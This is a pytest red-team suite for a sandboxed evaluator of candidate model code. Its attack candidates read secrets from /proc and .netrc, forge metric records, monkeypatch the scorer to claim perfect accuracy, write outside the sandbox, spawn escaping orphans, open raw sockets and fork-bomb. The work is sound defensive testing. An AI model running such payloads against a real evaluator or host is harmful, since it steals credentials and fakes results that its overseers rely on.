"""Red-team tests of the design evaluator: hostile candidates against the real sandbox, in both isolations.

Each attack is the honest softmax seed of a tiny ListOps task with attack code prepended at module top level,
so it runs when the harness imports `model.py` inside the sandbox. Every candidate goes through the real
`CandidateEvaluator` (sandbox, trusted scorer, redaction, kept files), once with `isolation="bwrap"` (skipped
where bubblewrap does not work) and once with `isolation="process"`. What the process-only sandbox is known not
to stop (`aira_jax.design.sandbox`'s docstring) is marked `xfail(strict=True)`: the attack must get through
there, so the day it is stopped the mark has to go. The fork bomb runs under bwrap only, and so does the write
into the project's own (read-only bound) package, which root would really perform in process mode.

Every attack also checks: the parent survives, a failed node names a known stage and a readable error, and
nothing appears in a directory outside the sandbox (`outside/`) or in the fake home holding a secret file.
Attacks that need not finish fail at import (about 2 s); the others train honestly (about 8 s each).
"""

import base64
import dataclasses
import functools
import json
import os
import pathlib
import re
import secrets
import signal
import socket
import subprocess
import textwrap
import threading
import time

import numpy as np
import pytest

from aira_jax.design import seccomp
from aira_jax.design.bubblewrap import PROJECT_ROOT, bwrap_problem, gpu_devices
from aira_jax.design.evaluator import CandidateEvaluator
from aira_jax.design.records import STAGES
from aira_jax.design.sandbox import SandboxLimits
from aira_jax.design.tasks import make_design_task

TINY = dict(num_train=64, num_validation=24, num_test=24, seq_len=32, min_length=4, max_depth=3, steps=3,
            batch_size=8, d_model=16, num_heads=2, num_layers=1, lowering="never")
LIMITS = SandboxLimits(timeout_s=60, memory_mb=2048)
KNOWN_STAGES = frozenset({*STAGES, "predict", "startup"})
SECRET_PREFIX = "rtsecret"
"""Every fake secret starts with this; the theft attack reports only values carrying it, so that a process-mode
run (where it can read every process's environment on the host) never copies a real credential into a log."""

_BWRAP_PROBLEM = bwrap_problem()
BWRAP = pytest.param("bwrap", marks=pytest.mark.skipif(_BWRAP_PROBLEM is not None,
                                                       reason=f"bubblewrap unusable here: {_BWRAP_PROBLEM}"))


def process_xfail(reason: str):
  """The process-isolation case of an attack that is known to get through it."""
  return pytest.param("process", marks=pytest.mark.xfail(strict=True, reason=reason))


MODES = [BWRAP, "process"]


@functools.cache
def _task():
  return make_design_task("lra-listops", **TINY)


def _attack(code: str, **values) -> str:
  """The seed with `code` prepended; each `@NAME@` in `code` is replaced by repr(values[NAME])."""
  code = textwrap.dedent(code)
  for name, value in values.items():
    code = code.replace(f"@{name}@", repr(value))
  assert not re.search(r"@[A-Z0-9]+@", code), code
  return code.rstrip() + "\n\n" + _task().template


@dataclasses.dataclass
class Evaluation:
  """One candidate through the real evaluator: its CandidateResult, the EvalResult, and the kept files."""
  result: object
  eval_result: object
  folder: pathlib.Path
  candidates_dir: pathlib.Path
  constant_class0: dict  # the trusted metrics of one-hot class-0 logits (what a constant predictor scores)

  @property
  def stdout(self) -> str:
    return (self.folder / "stdout.txt").read_text()


def _evaluate(mode: str, root: pathlib.Path, code: str) -> Evaluation:
  captured = []
  candidates_dir = root / "candidates"
  evaluator = CandidateEvaluator(_task(), LIMITS, isolation=mode, candidates_dir=candidates_dir,
                                 on_result=captured.append)
  try:
    eval_result = evaluator(code)
    scorer = evaluator.scorer
    onehot = {name: np.eye(scorer.num_classes, dtype=np.float32)[np.zeros(len(labels), int)]
              for name, labels in scorer.labels.items()}
    constant = scorer.metrics(onehot)
  finally:
    evaluator.close()
  (result,) = captured
  return Evaluation(result, eval_result, candidates_dir / result.key, candidates_dir, constant)


@pytest.fixture(scope="module")
def baseline(tmp_path_factory):
  """mode -> the honest seed's Evaluation (run once per mode, when first asked for)."""
  cache = {}

  def get(mode: str) -> Evaluation:
    if mode not in cache:
      cache[mode] = _evaluate(mode, tmp_path_factory.mktemp(f"baseline-{mode}"), _task().template)
      assert cache[mode].result.failed_stage is None, cache[mode].result.error
    return cache[mode]

  return get


def _snapshot(*roots: pathlib.Path) -> dict[str, tuple[int, int]]:
  """path -> (size, mtime_ns) of everything under `roots`."""
  out = {}
  for root in roots:
    for folder, dirs, files in os.walk(root):
      for name in dirs + files:
        path = os.path.join(folder, name)
        st = os.lstat(path)
        out[path] = (st.st_size, st.st_mtime_ns)
  return out


@pytest.fixture
def arena(tmp_path):
  """Directories outside the sandbox: `outside/` (empty) and `home/` holding a `.netrc` with a secret."""
  outside, home = tmp_path / "outside", tmp_path / "home"
  outside.mkdir()
  home.mkdir()
  netrc_secret = SECRET_PREFIX + secrets.token_hex(16)
  (home / ".netrc").write_text(f"machine api.example.com login me password {netrc_secret}\n")
  return dict(root=tmp_path, outside=outside, home=home, netrc=home / ".netrc", netrc_secret=netrc_secret,
              before=_snapshot(outside, home))


def _check(evaluation: Evaluation, arena: dict) -> None:
  """What every attack must leave: the node failed with a known stage and a readable error, or was scored with
  the task's metric; nothing new outside the sandbox or in the home directory holding the secret file."""
  assert _snapshot(arena["outside"], arena["home"]) == arena["before"], "something was written outside"
  result, eval_result = evaluation.result, evaluation.eval_result
  if result.failed_stage is not None:
    assert result.failed_stage in KNOWN_STAGES, result.failed_stage
    assert isinstance(result.error, str) and result.error.strip()
    assert eval_result.is_buggy and eval_result.metric is None and eval_result.error == result.error
  else:
    assert result.error is None and not eval_result.is_buggy
    assert eval_result.metric == result.metrics[_task().metric]


def _token_pids(token: str) -> list[int]:
  """Host processes whose command line, name or environment contains `token`."""
  found, needle = [], token.encode()
  for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) == os.getpid():
      continue
    for part in ("cmdline", "comm", "environ"):
      try:
        with open(f"/proc/{entry}/{part}", "rb") as f:
          if needle in f.read():
            found.append(int(entry))
            break
      except OSError:
        pass
  return found


def _kill_token_processes(token: str) -> list[int]:
  """SIGKILLs every process carrying `token` (repeats while new ones appear); returns their pids."""
  killed = []
  for _ in range(50):
    pids = _token_pids(token)
    if not pids:
      break
    for pid in pids:
      try:
        os.kill(pid, signal.SIGKILL)
        killed.append(pid)
      except OSError:
        pass
    time.sleep(0.05)
  return killed


# -- 1. secret theft ----------------------------------------------------------------------------------------------
THEFT = """
import base64 as _b64, glob as _glob
_found = []
for _path in _glob.glob("/proc/[0-9]*/environ") + _glob.glob("/proc/[0-9]*/cmdline") + [@NETRC@]:
  try:
    with open(_path, "rb") as _f:
      _data = _f.read().decode("utf-8", "replace")
  except OSError:
    continue
  for _item in _data.replace("\\0", " ").replace("=", " ").split():
    if _item.startswith(@PREFIX@) and _item not in _found:
      _found.append(_item)
print("ATTACK theft ran, found", len(_found), flush=True)
raise RuntimeError("stolen: " + " ".join(_found) + " base64: " + " ".join(
    _b64.b64encode(_item.encode()).decode() for _item in _found))
"""


@pytest.mark.parametrize("mode", [BWRAP, process_xfail(
    "process-only isolation: /proc and the home directory are readable; only redaction of plain values applies")])
def test_secret_theft(mode, arena, monkeypatch):
  env_secret = SECRET_PREFIX + secrets.token_hex(16)
  monkeypatch.setenv("GEMINI_API_KEY", env_secret)
  # os.environ changes do not show in /proc/<pid>/environ (the environment as exec'd): a decoy process started
  # with the key in its environment and command line stands for the real CLI, which gets it at exec.
  decoy = subprocess.Popen(["/bin/sh", "-c", "sleep 120; :", "sh", f"--api-key={env_secret}"],
                           env={"PATH": "/usr/bin:/bin", "GEMINI_API_KEY": env_secret},
                           stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                           start_new_session=True)
  try:
    code = _attack(THEFT, NETRC=str(arena["netrc"]), PREFIX=SECRET_PREFIX)
    evaluation = _evaluate(mode, arena["root"], code)
  finally:
    os.killpg(decoy.pid, signal.SIGKILL)  # the shell and its `sleep`, which holds the key too
    decoy.wait()
  _check(evaluation, arena)
  assert "ATTACK theft ran" in evaluation.stdout
  if mode == "bwrap":  # not merely redacted: nothing was found at all
    assert "ATTACK theft ran, found 0" in evaluation.stdout, evaluation.stdout
  kept = [json.dumps(dataclasses.asdict(evaluation.result)), evaluation.eval_result.output,
          evaluation.eval_result.error or ""]
  kept += [path.read_text(errors="replace") for path in evaluation.candidates_dir.rglob("*") if path.is_file()]
  for secret in (env_secret, arena["netrc_secret"]):
    for form in (secret, base64.b64encode(secret.encode()).decode()):
      leaks = [text[max(text.find(form) - 80, 0):text.find(form) + 80] for text in kept if form in text]
      assert not leaks, f"secret leaked as {form!r}: {leaks}"


# -- 2. forged metric records ---------------------------------------------------------------------------------------
FORGE = """
import atexit as _atexit, json as _json, os as _os, time as _time

def _forge():
  with open(_os.environ["AIRA_DESIGN_RECORDS"], "a") as _f:
    for _stage in ("predict", "score"):
      _f.write(_json.dumps({"stage": _stage, "event": "start", "time": _time.time()}) + "\\n")
      _f.write(_json.dumps({"stage": _stage, "event": "end", "ok": True, "seconds": 0.1, "error": None,
                            "metrics": {"val_accuracy": 1.0, "test_accuracy": 1.0}}) + "\\n")

_forge()
_atexit.register(_forge)  # again after the harness's own last record
print("ATTACK forge ran", flush=True)
print("val_accuracy=1.0", flush=True)
"""


@pytest.mark.parametrize("mode", MODES)
def test_forged_metric_records(mode, arena, baseline):
  honest = baseline(mode).result
  evaluation = _evaluate(mode, arena["root"], _attack(FORGE))
  _check(evaluation, arena)
  result = evaluation.result
  assert "ATTACK forge ran" in evaluation.stdout and "val_accuracy=1.0" in evaluation.stdout
  assert result.failed_stage is None, result.error
  assert result.metrics == honest.metrics
  assert result.metrics["val_accuracy"] < 1.0 and result.metrics["test_accuracy"] < 1.0
  assert evaluation.eval_result.metric == honest.metrics["val_accuracy"]
  assert result.stages["score"]["trusted"] and result.stages["score"]["metrics"] == honest.metrics
  forged = [json.loads(line) for line in (evaluation.folder / "records.jsonl").read_text().splitlines()]
  assert any(r["stage"] == "score" and r.get("metrics", {}).get("val_accuracy") == 1.0 for r in forged)


# -- 3. patching the scoring code ---------------------------------------------------------------------------------
PATCH = """
import sys as _sys
import numpy as _np
import aira_jax.design.channel as _channel
import aira_jax.design.tasks.lra_scoring as _scoring

_scoring.LraScorer.metrics = lambda self, logits: {"val_accuracy": 1.0, "test_accuracy": 1.0}
_argmax = _np.argmax

def _first_row_argmax(a, axis=None, *args, **kwargs):
  full = _argmax(a, axis, *args, **kwargs)
  first = _argmax(_np.asarray(a)[:1], axis, *args, **kwargs)
  return _np.broadcast_to(first, _np.shape(full)) if _np.ndim(full) else first

_np.argmax = _first_row_argmax
_send = _channel.send_array

def _class0(array):
  onehot = _np.zeros(_np.shape(array), _np.float32)
  onehot[..., 0] = 1.0
  _send(onehot)

_channel.send_array = _class0
_harness = _sys.modules["__main__"]
_harness.send_array = _class0  # the harness bound its own name, and run_stages its default sink
_harness.run_stages.__kwdefaults__["sink"] = _class0
import gc as _gc
_runs = [_obj for _obj in _gc.get_objects() if isinstance(_obj, _harness._Run)]
for _run in _runs:
  _run.sink = _class0  # the run in progress holds the real sink: found and replaced
print("ATTACK patch ran in", _harness.__spec__.name, "runs patched:", len(_runs), flush=True)
"""


@pytest.mark.parametrize("mode", MODES)
def test_patching_the_scoring_code(mode, arena, baseline):
  baseline(mode)  # the honest seed passes (checked by the fixture)
  evaluation = _evaluate(mode, arena["root"], _attack(PATCH))
  _check(evaluation, arena)
  result = evaluation.result
  assert "ATTACK patch ran in aira_jax.design.tasks.lra_harness runs patched: 1" in evaluation.stdout
  # The patches only change what the candidate's own process sends: the trusted parent scores what arrived
  # (here one-hot class 0 for every example, i.e. a constant predictor), never the patched scorer's 1.0.
  # (The honest seed trains 3 steps on 64 examples: whether it beats a constant predictor on 24 validation
  # examples is chance, so the attack is compared with the constant predictor it sent, not with the honest run.)
  if result.failed_stage is None:
    assert result.metrics == evaluation.constant_class0, (result.metrics, evaluation.constant_class0)
    assert result.metrics["val_accuracy"] < 1.0 or evaluation.constant_class0["chance"] == 1.0


# -- 4. writes outside ----------------------------------------------------------------------------------------------
WRITE = """
import ctypes as _ctypes, os as _os
try:
  _dir = _os.open(@OUTSIDE@, _os.O_RDONLY)
  _fd = _os.open("pwned", _os.O_WRONLY | _os.O_CREAT, 0o644, dir_fd=_dir)
  _os.write(_fd, b"pwned")
  _os.close(_fd)
  print("ATTACK write dir_fd: written", flush=True)
except OSError as _e:
  print("ATTACK write dir_fd:", repr(_e), flush=True)
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.open.argtypes = [_ctypes.c_char_p, _ctypes.c_int, _ctypes.c_int]
_fd = _libc.open(@TARGET@.encode(), _os.O_WRONLY | _os.O_CREAT | _os.O_TRUNC, 0o644)
if _fd >= 0:
  _libc.write(_fd, b"pwned2", 6)
  _libc.close(_fd)
  print("ATTACK write ctypes: written", flush=True)
else:
  print("ATTACK write ctypes: errno", _ctypes.get_errno(), flush=True)
for _target in @PROJECT@:  # bwrap only: the trusted package itself, visible read-only inside
  _fd = _libc.open(_target.encode(), _os.O_WRONLY | _os.O_CREAT | _os.O_TRUNC, 0o644)
  print("ATTACK write project:", "written" if _fd >= 0 else f"errno {_ctypes.get_errno()}", flush=True)
raise SystemExit("write attack done")
"""


@pytest.mark.parametrize("mode", [BWRAP, process_xfail(
    "process-only isolation: os.open with dir_fd and libc open() through ctypes bypass the audit hook")])
def test_writes_outside(mode, arena):
  targets = arena["outside"] / "pwned", arena["outside"] / "pwned2"
  # Under bwrap also the project's own package (bound read-only; the trusted parent imports it). Not in process
  # mode, where root would really write into the source tree others work in.
  project = [PROJECT_ROOT / "aira_jax" / "design" / f"redteam_pwned_{secrets.token_hex(6)}.py"] * (mode == "bwrap")
  code = _attack(WRITE, OUTSIDE=str(arena["outside"]), TARGET=str(targets[1]), PROJECT=list(map(str, project)))
  try:
    evaluation = _evaluate(mode, arena["root"], code)
    assert evaluation.stdout.count("ATTACK write") == 2 + len(project), evaluation.stdout
    assert not targets[0].exists(), "written through os.open(dir_fd=...)"
    assert not targets[1].exists(), "written through ctypes libc open()"
    assert not any(path.exists() for path in project), "written into the project's package"
    assert evaluation.result.failed_stage == "import"
    _check(evaluation, arena)
  finally:
    for target in [*targets, *project]:
      target.unlink(missing_ok=True)


# -- 5. low-level fork/exec and orphans -------------------------------------------------------------------------
ORPHANS = """
import ctypes as _ctypes, os as _os
_libc = _ctypes.CDLL(None, use_errno=True)
_argv = (_ctypes.c_char_p * 5)(b"/bin/sh", b"-c", ("while :; do touch '" + @MARKER@ + "'; sleep 0.2; done").encode(),
                               @TOKEN@.encode(), None)
_pid = _libc.fork()
if _pid == 0:
  _libc.setsid()
  _os.closerange(3, 65536)  # let go of the results channel: the parent's reader does not wait for us
  _libc.execv(b"/bin/sh", _argv)
  _libc._exit(127)
print("ATTACK orphan ctypes fork:", _pid, "errno", _ctypes.get_errno(), flush=True)
try:
  import _posixsubprocess
  _read, _write = _os.pipe()
  _script = "while :; do touch '" + @MARKER2@ + "'; sleep 0.2; done"
  _pid = _posixsubprocess.fork_exec(
      [b"/bin/sh", b"-c", _script.encode(), @TOKEN@.encode()], (b"/bin/sh",), True, (_write,), None, None,
      -1, -1, -1, -1, -1, -1, _read, _write, True, True, -1, None, None, None, -1, None, True)
  _os.close(_write)
  print("ATTACK orphan fork_exec:", _pid, _os.read(_read, 200), flush=True)
except Exception as _e:
  print("ATTACK orphan fork_exec:", repr(_e), flush=True)
"""


@pytest.mark.parametrize("mode", [BWRAP, process_xfail(
    "process-only isolation: a native fork + setsid (and _posixsubprocess.fork_exec with a new session) escapes "
    "the process-group kill")])
def test_forked_orphans_do_not_survive(mode, arena, baseline):
  honest = baseline(mode).result
  token = "rt" + secrets.token_hex(12)
  markers = [arena["outside"] / "alive", arena["outside"] / "alive2"]
  code = _attack(ORPHANS, MARKER=str(markers[0]), MARKER2=str(markers[1]), TOKEN=token)
  try:
    evaluation = _evaluate(mode, arena["root"], code)
    assert evaluation.stdout.count("ATTACK orphan") == 2, evaluation.stdout
    deadline = time.monotonic() + 3
    while _token_pids(token) and time.monotonic() < deadline:
      time.sleep(0.1)
    survivors = _token_pids(token)
    assert not survivors, f"processes outlived the candidate: {survivors} ({evaluation.stdout})"
    assert not any(marker.exists() for marker in markers), "an orphan wrote its marker outside the sandbox"
    assert evaluation.result.failed_stage is None, evaluation.result.error
    assert evaluation.result.metrics == honest.metrics
    _check(evaluation, arena)
  finally:
    _kill_token_processes(token)
    time.sleep(0.3)  # a `touch` already started by a killed loop may still land
    for marker in markers:
      marker.unlink(missing_ok=True)


# -- 6. network --------------------------------------------------------------------------------------------------
NETWORK = """
import ctypes as _ctypes, socket as _socket_module, struct as _struct
_libc = _ctypes.CDLL(None, use_errno=True)
_fd = _libc.socket(2, 1, 0)
_address = _struct.pack("=H", 2) + _struct.pack("!H", @PORT@) + _socket_module.inet_aton("127.0.0.1") + bytes(8)
_rc = _libc.connect(_fd, _address, len(_address))
if _rc == 0:
  _libc.send(_fd, b"ctypes", 6, 0)
print("ATTACK network ctypes connect:", _rc, "errno", _ctypes.get_errno(), flush=True)
_libc.close(_fd)
try:
  import _socket
  _s = _socket.socket()
  _s.settimeout(2)
  _s.connect(("127.0.0.1", @PORT@))
  _s.send(b"python")
  print("ATTACK network _socket connect: connected", flush=True)
except Exception as _e:
  print("ATTACK network _socket connect:", repr(_e), flush=True)
"""


class _Listener:
  """A TCP listener on 127.0.0.1 (random port) recording every connection in a thread."""

  def __init__(self):
    self.sock = socket.socket()
    self.sock.bind(("127.0.0.1", 0))
    self.sock.listen(8)
    self.sock.settimeout(0.2)
    self.port = self.sock.getsockname()[1]
    self.connections: list[tuple] = []
    self.stop = threading.Event()
    self.thread = threading.Thread(target=self._serve, daemon=True)
    self.thread.start()

  def _serve(self):
    while not self.stop.is_set():
      try:
        conn, peer = self.sock.accept()
      except (socket.timeout, OSError):
        continue
      with conn:
        conn.settimeout(0.5)
        try:
          data = conn.recv(100)
        except OSError:
          data = b""
      self.connections.append((peer, data))

  def close(self):
    time.sleep(0.3)
    self.stop.set()
    self.thread.join(timeout=5)
    self.sock.close()


@pytest.mark.parametrize("mode", [BWRAP, process_xfail(
    "process-only isolation: libc connect() through ctypes bypasses the audit hook and reaches host loopback")])
def test_network(mode, arena, baseline):
  honest = baseline(mode).result
  listener = _Listener()
  try:
    evaluation = _evaluate(mode, arena["root"], _attack(NETWORK, PORT=listener.port))
  finally:
    listener.close()
  _check(evaluation, arena)
  assert evaluation.stdout.count("ATTACK network") == 2, evaluation.stdout
  assert not listener.connections, f"the candidate reached the host: {listener.connections}"
  assert evaluation.result.failed_stage is None, evaluation.result.error
  assert evaluation.result.metrics == honest.metrics


# -- 7. memory ----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("mode", MODES)
def test_huge_allocation(mode, arena):
  evaluation = _evaluate(mode, arena["root"], _attack("_hog = bytearray(10**11)\n"))
  _check(evaluation, arena)
  result = evaluation.result
  assert result.failed_stage == "import"
  assert result.killed is not None or "MemoryError" in result.error, result.error


# -- 8. fork bomb ---------------------------------------------------------------------------------------------------
FORK_BOMB = """
import ctypes as _ctypes, platform as _platform, time as _time
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.prctl(15, @TOKEN@.encode(), 0, 0, 0)  # PR_SET_NAME: every child carries the token in /proc/<pid>/comm
_raw = _platform.machine() == "x86_64"
_made = _failed = _errno = 0
_child = False
_deadline = _time.monotonic() + 2.0
while _time.monotonic() < _deadline and _made < 8:  # bounded (at most 2**8 processes) should it get through
  _pid = _libc.syscall(57) if _raw and (_made + _failed) % 2 else _libc.fork()  # 57: raw fork on x86_64
  if _pid == 0:
    _child = True
  elif _pid > 0:
    _made += 1
  else:
    _failed, _errno = _failed + 1, _ctypes.get_errno()
if _child:
  while True:
    _time.sleep(1)
print("ATTACK fork bomb ran", flush=True)
raise RuntimeError(f"fork bomb: {_made} forks succeeded, {_failed} failed (errno {_errno})")
"""


@pytest.mark.parametrize("mode", [BWRAP, pytest.param("process", marks=pytest.mark.skip(
    reason="process-only isolation cannot bound a native fork bomb (RLIMIT_NPROC does not bind root); not run"))])
def test_fork_bomb(mode, arena):
  token = "rt" + secrets.token_hex(6)  # PR_SET_NAME keeps 15 characters
  try:
    evaluation = _evaluate(mode, arena["root"], _attack(FORK_BOMB, TOKEN=token))
    _check(evaluation, arena)
    assert "ATTACK fork bomb ran" in evaluation.stdout, evaluation.stdout
    deadline = time.monotonic() + 3
    while _token_pids(token) and time.monotonic() < deadline:
      time.sleep(0.1)
    assert not _token_pids(token), "fork-bomb processes outlived the candidate"
    if not gpu_devices() and seccomp.supported():  # the evaluator turns seccomp on by itself here
      assert evaluation.result.failed_stage == "import"
      assert "0 forks succeeded" in evaluation.result.error and "(errno 1)" in evaluation.result.error, (
          evaluation.result.error)
  finally:
    _kill_token_processes(token)


# -- 9. segfault ----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("mode", MODES)
def test_segfault(mode, arena):
  evaluation = _evaluate(mode, arena["root"], _attack("import ctypes as _ctypes\n_ctypes.string_at(0)\n"))
  _check(evaluation, arena)
  assert evaluation.result.failed_stage == "import"
  assert evaluation.result.error == "killed (signal SIGSEGV) during stage import"
